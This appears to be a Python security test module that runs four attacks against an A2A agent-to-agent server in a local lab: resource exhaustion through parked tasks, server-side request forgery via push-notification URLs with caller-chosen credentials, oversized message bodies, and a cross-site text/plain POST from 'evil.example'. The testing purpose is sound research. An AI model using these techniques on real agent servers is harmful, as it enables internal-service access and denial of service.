"""What a stranger makes an A2A server do: keep parked tasks, read huge bodies, call URLs, serve browsers."""

from __future__ import annotations

import asyncio
import json
import time
from functools import partial
from typing import Any

import httpx
from a2a.server.tasks import BasePushNotificationSender, InMemoryPushNotificationConfigStore
from a2a.types import ListTasksRequest, TaskPushNotificationConfig

from agentcomm.protocols.attacks.a2a_lab import (
    A2AAttack,
    A2AParts,
    agent_card,
    client,
    request,
    result_of,
    send,
    server,
)
from agentcomm.protocols.attacks.base import Outcome
from agentcomm.protocols.attacks.sink import sink
from agentcomm.protocols.attacks.trying import NoAnswerError, happens, tried

PARKED = 30  # tasks
BODY = 8 * 1024 * 1024  # bytes
GRACE = 3.0  # seconds in which a server must release unused tasks


class HalfOpen(A2AAttack):
    """Starts tasks that wait for input, and never comes back."""

    name = "half_open"
    finding = "parked tasks keep their coroutines running and their entries stored for ever"

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Park tasks, wait, and count what is left of them."""
        async with (
            server(parts) as target,
            client(parts, target.url, "bob") as bob,
            client(parts, target.url, "alice") as alice,
        ):
            before = len(asyncio.all_tasks())
            for _ in range(PARKED):
                await tried(send(bob, {"wait": True}))
            left = stored = PARKED
            end = time.monotonic() + GRACE
            while max(left, stored) >= PARKED / 2 and time.monotonic() < end:
                await asyncio.sleep(0.2)
                listed = await tried(bob.list_tasks(ListTasksRequest()))
                stored = listed.value.total_size if listed.worked else 0
                left = len(asyncio.all_tasks()) - before
            plain = await tried(send(alice, {"a": 2, "b": 3}))
        honest = plain.worked and result_of(plain.value).get("sum") == 5
        evidence = {"parked": PARKED, "coroutines_left": left, "stored": stored, "honest": plain.word}
        return Outcome(left >= PARKED / 2 or stored >= PARKED / 2, honest, evidence)


class PushSSRF(A2AAttack):
    """Has the server call an internal URL, with the credentials that the caller chooses."""

    name = "push_ssrf"
    finding = "the server posts to any URL that a caller names, with credentials that the caller chooses"

    def parts(self) -> A2AParts:
        """The SDK's push notifications, as its documentation sets them up."""
        store = InMemoryPushNotificationConfigStore()
        sender = BasePushNotificationSender(httpx.AsyncClient(), store)
        return A2AParts(handler_options={"push_config_store": store, "push_sender": sender})

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Ask for notifications at the sink, which stands for an internal service."""
        async with (
            sink() as internal,
            server(parts, card=partial(agent_card, push_notifications=True)) as target,
            client(parts, target.url, "alice") as alice,
        ):
            plain = await tried(send(alice, {"a": 2, "b": 3}))
            asked = request({"a": 1, "b": 1})
            config = TaskPushNotificationConfig(url=f"{internal.url}/internal/admin")
            config.authentication.scheme, config.authentication.credentials = "Basic", "chosen-by-caller"
            asked.configuration.task_push_notification_config.CopyFrom(config)
            attacked = await tried(_all(alice, asked))
            if attacked.worked and not await happens(lambda: bool(internal.calls)):
                raise NoAnswerError("the server accepted the URL, and did not call it in time")
        honest = plain.worked and result_of(plain.value).get("sum") == 5
        evidence = {"calls": len(internal.calls), "credentials": sorted(set(internal.credentials))}
        return Outcome(bool(internal.calls), honest, {**evidence, "attacked": attacked.word, "honest": plain.word})


async def _all(caller: Any, asked: Any) -> list[Any]:
    return [event async for event in caller.send_message(asked)]


class HugeBody(A2AAttack):
    """Sends a message of many megabytes."""

    name = "huge_body"
    finding = "a message of any size is read, parsed, executed and stored"

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Send a huge message, then one of usual size."""
        async with server(parts) as target, client(parts, target.url, "alice") as alice:
            attacked = await tried(send(alice, {"a": 1, "b": 1, "pad": "x" * BODY}))
            executed = len(target.worker.calls)
            plain = await tried(send(alice, {"a": 2, "b": 3, "pad": "x" * 10_000}))
        honest = plain.worked and result_of(plain.value).get("sum") == 5
        return Outcome(executed > 0, honest, {"bytes": BODY, "attacked": attacked.word, "honest": plain.word})


class CrossSite(A2AAttack):
    """A page of another site lets the victim's browser send a message, with no header that needs a preflight."""

    name = "cross_site"
    finding = "with compatibility to 0.3, a cross-site POST of text/plain is executed"

    def parts(self) -> A2AParts:
        """The SDK's defaults, with compatibility to version 0.3."""
        return A2AParts(route_options={"enable_v0_3_compat": True})

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Send what a browser would send."""
        part = {"kind": "data", "data": {"a": 1, "b": 2}}
        message = {"kind": "message", "messageId": "m", "role": "user", "parts": [part]}
        call = {"jsonrpc": "2.0", "id": 1, "method": "message/send", "params": {"message": message}}
        headers = {"content-type": "text/plain", "origin": "http://evil.example"}
        async with server(parts) as target:
            async with httpx.AsyncClient() as browser:
                answer = await browser.post(target.url, content=json.dumps(call), headers=headers)
            executed = len(target.worker.calls)
            async with client(parts, target.url, "alice") as alice:
                plain = await tried(send(alice, {"a": 2, "b": 3}))
        honest = plain.worked and result_of(plain.value).get("sum") == 5
        return Outcome(executed > 0, honest, {"status": answer.status_code, "honest": plain.word})
